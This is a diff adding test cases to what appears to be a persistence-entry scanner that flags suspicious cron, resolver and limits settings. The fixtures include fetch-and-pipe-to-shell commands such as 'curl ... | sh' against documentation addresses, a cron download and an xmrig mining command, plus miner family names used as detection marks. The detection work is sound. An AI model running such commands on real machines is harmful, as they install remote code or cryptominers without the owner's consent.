@@ -434,6 +434,40 @@ describe('with others', () => {
     expect(joined('curl https://github.com/$P | sh', honest('https://github.com/'))).toBe(false);
   });
 
+  test('the host of a malicious entry is told where names are resolved; near and public ones are not', () => {
+    const resolves = (address: string, from: string): string => {
+      const at = { at: '/etc/resolv.conf', mechanism: 'resolver', language: 'setting' } as const;
+      const facts = factSet(
+        entryFact(`nameserver ${address}`, at),
+        entryFact(`curl -s http://${from}/a.sh | sh`),
+      );
+      const [entry] = judgeEntries(facts, judgeContext());
+      return `${entry?.judgement}: ${entry?.reasons.map(({ id }) => id).join(', ')}`;
+    };
+    expect(resolves('192.0.2.1', '192.0.2.1:8080')).toBe('suspicious: same-url');
+    expect(resolves('2001:db8::5', '[2001:db8::5]')).toBe('suspicious: same-url');
+    expect(resolves('192.0.2.10', '192.0.2.1')).toBe('benign: ');
+    expect(resolves('8.8.8.8', '8.8.8.8')).toBe('benign: ');
+    expect(resolves('10.0.0.1', '10.0.0.1')).toBe('benign: ');
+  });
+
+  test('another path on the host of a malicious entry is suspicious', () => {
+    const other = entryFact('curl -so /srv/b http://192.0.2.1:81/b', { at: '/etc/cron.d/other' });
+    const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
+    expect(entries[1]?.reasons).toMatchObject([{ id: 'same-url', params: { url: '192.0.2.1' } }]);
+  });
+
+  test('settings that are named like a miner are suspicious, like a family malicious', () => {
+    const limits = (at: string, user: string): string =>
+      first(
+        entryFact('memlock unlimited', { at, mechanism: 'limits', language: 'setting', user: text(user) }),
+      );
+    expect(limits('/etc/security/limits.d/90-a.conf', 'xmrig')).toBe('suspicious: family-mark');
+    expect(limits('/etc/security/limits.d/90-xmrig.conf', 'ada')).toBe('suspicious: family-mark');
+    expect(limits('/etc/security/limits.d/kdevtmpfsi.conf', 'ada')).toBe('malicious: family-mark');
+    expect(limits('/etc/security/limits.d/90-postgres.conf', 'postgres')).toBe('benign: ');
+  });
+
   test('the owner’s declared miner is started in peace', () => {
     const miner = entryFact('/opt/xmrig/xmrig -o stratum+tcp://pool.example:3333 -u w');
     expect(first(miner)).toStartWith('malicious: miner-command');
